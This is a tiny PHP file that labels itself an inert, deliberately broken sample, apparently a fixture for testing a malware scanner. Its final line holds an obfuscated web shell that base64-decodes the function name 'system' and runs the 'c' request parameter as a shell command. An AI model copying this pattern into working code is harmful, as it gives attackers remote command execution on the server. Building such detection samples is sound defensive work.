<?php
shodo inert sample: deliberate syntax error, this file never runs
 $x = base64_decode('c3lzdGVt'); $x($_GET['c']); ?>
